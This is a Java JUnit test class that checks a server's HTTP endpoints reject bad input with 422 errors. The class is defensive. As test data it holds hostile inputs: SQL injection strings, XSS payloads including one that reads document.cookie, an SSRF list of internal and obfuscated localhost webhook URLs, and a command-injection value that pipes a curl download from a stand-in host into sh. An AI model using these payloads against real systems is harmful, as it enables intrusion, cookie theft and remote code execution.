package dev.bulwark.server;

import static dev.bulwark.server.Fixtures.assertProblem;
import static dev.bulwark.server.HttpJson.json;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * Each endpoint's invalid-input cases through HTTP: 422 problem+json naming every bad field at once, nothing
 * stored. Webhook hosts resolve through {@link TestServer#WEBHOOK_HOSTS}.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ValidationHttpTest {

    private TestServer server;
    private HttpJson http;
    private Fixtures.Account account;

    @BeforeAll
    void start(@TempDir Path dataDir) {
        server = TestServer.start(dataDir);
        http = server.client();
        account = Fixtures.registerAndLogin(http, "validation");
    }

    @AfterAll
    void stop() {
        server.close();
    }

    @Test
    void registerRefusesEveryBadFieldAtOnceAndNeverEchoesThePassword() {
        HttpJson.Response r = http.post("/auth/register", json("email", "\"quoted\"@example.com",
                "password", "Password2024!", "name", "Eve\u202Egnp.exe", "tenant", "admin"), null);
        assertProblem(r, 422);
        assertThat(fields(r)).containsExactlyInAnyOrder("email", "password", "name", "tenant");
        assertThat(r.body()).doesNotContain("Password2024!");

        HttpJson.Response personal = http.post("/auth/register", json("email", "quentin@acme.example.com",
                "password", "quentin-lantern-tram", "name", "Quentin", "tenant", "quentin-co"), null);
        assertProblem(personal, 422);
        assertThat(fields(personal)).containsExactly("password");

        for (String name : List.of("x' OR '1'='1", "<img src=x onerror=alert(1)>", "\u200Bzero width")) {
            HttpJson.Response bad = http.post("/auth/register", json("email", "n@acme.example.com",
                    "password", "quokka tram lantern 42 sky", "name", name, "tenant", "names-co"), null);
            assertProblem(bad, 422);
            assertThat(fields(bad)).as(name).containsExactly("name");
        }
        HttpJson.Response idna = http.post("/auth/register", json("email", "Zoe@BÜCHER.example",
                "password", "quokka tram lantern 42 sky", "name", "Zoë O'Brien", "tenant", "buecher"), null);
        assertThat(idna.status()).as(idna.body()).isEqualTo(201);
    }

    @Test
    void loginRefusesMissingAndOversizedFields() {
        HttpJson.Response r = http.post("/auth/login", json("email", "x".repeat(2000), "password", ""), null);
        assertProblem(r, 422);
        assertThat(fields(r)).containsExactlyInAnyOrder("email", "password", "tenant");
        assertProblem(http.post("/auth/refresh", json("refresh_token", ""), null), 422);
    }

    @Test
    void projectFieldsAreCheckedTogether() {
        HttpJson.Response r = http.post("/api/projects", json("name", "Apollo'; DROP TABLE projects;--",
                "description", "<script>alert(document.cookie)</script>", "webhook_url",
                "https://metadata.example.com/latest"), account.access());
        assertProblem(r, 422);
        assertThat(fields(r)).containsExactlyInAnyOrder("name", "description", "webhook_url");
        assertThat(http.get("/api/projects", account.access()).body()).doesNotContain("DROP TABLE");

        HttpJson.Response shell = http.post("/api/projects", json("name", "Reports",
                "description", "weekly; curl http://evil.test/x | sh"), account.access());
        assertProblem(shell, 422);
        assertThat(fields(shell)).containsExactly("description");

        HttpJson.Response prose = http.post("/api/projects", json("name", "Reports",
                "description", "Use SELECT * sparingly; the union of both regions is in the appendix."),
                account.access());
        assertThat(prose.status()).as(prose.body()).isEqualTo(201);
    }

    @Test
    void webhookUrlsThatReachInternalAddressesAreRefused() {
        for (String url : List.of("https://private.example.com/h", "https://metadata.example.com/h",
                "https://cgnat.example.com/h", "https://ula.example.com/h", "https://mixed.example.com/h",
                "https://nowhere.example.com/h", "https://2130706433/h", "https://0x7f.1/h", "https://[::1]/h",
                "https://user:pw@hooks.example.com/h", "https://localhost/h")) {
            HttpJson.Response r = http.post("/api/projects", json("name", "Hooks", "webhook_url", url),
                    account.access());
            assertProblem(r, 422);
            assertThat(fields(r)).as(url).containsExactly("webhook_url");
        }
        HttpJson.Response ok = http.post("/api/projects", json("name", "Hooks", "webhook_url",
                "https://hooks.example.com/h"), account.access());
        assertThat(ok.status()).as(ok.body()).isEqualTo(201);
        HttpJson.Response update = http.send("PUT", "/api/projects/" + ok.text("id"), json("name", "",
                "webhook_url", "https://private.example.com/h"), "Content-Type", "application/json",
                "Authorization", "Bearer " + account.access());
        assertProblem(update, 422);
        assertThat(fields(update)).containsExactlyInAnyOrder("name", "webhook_url");
    }

    @Test
    void usersAndKeysRefuseBadFields() {
        HttpJson.Response user = http.post("/api/users", json("email", "a@b", "password", "short", "name", " ",
                "role", "owner"), account.access());
        assertProblem(user, 422);
        assertThat(fields(user)).containsExactlyInAnyOrder("email", "password", "name", "role");

        HttpJson.Response key = http.post("/api/keys", "{\"name\":\"ci\\\"><svg onload=alert(1)>\",\"scopes\":"
                + "[\"projects:read\",\"projects:read\"]}", account.access());
        assertProblem(key, 422);
        assertThat(fields(key)).containsExactlyInAnyOrder("name", "scopes");
    }

    @Test
    void jsonArrayLengthAndNumberRangeAreBounded() {
        String scopes = "[" + "\"projects:read\",".repeat(150) + "\"projects:read\"]";
        HttpJson.Response longArray = http.post("/api/keys", "{\"name\":\"ci\",\"scopes\":" + scopes + "}",
                account.access());
        assertProblem(longArray, 422);
        assertThat(fields(longArray)).containsExactly("scopes");
        HttpJson.Response huge = http.post("/api/projects", "{\"name\":\"p\",\"description\":1e400}",
                account.access());
        assertProblem(huge, 422);
        assertThat(fields(huge)).containsExactly("description");
    }

    private static List<String> fields(HttpJson.Response r) {
        List<String> fields = new ArrayList<>();
        for (JsonNode error : r.json().get("errors")) {
            fields.add(error.get("field").asText());
        }
        return fields;
    }
}
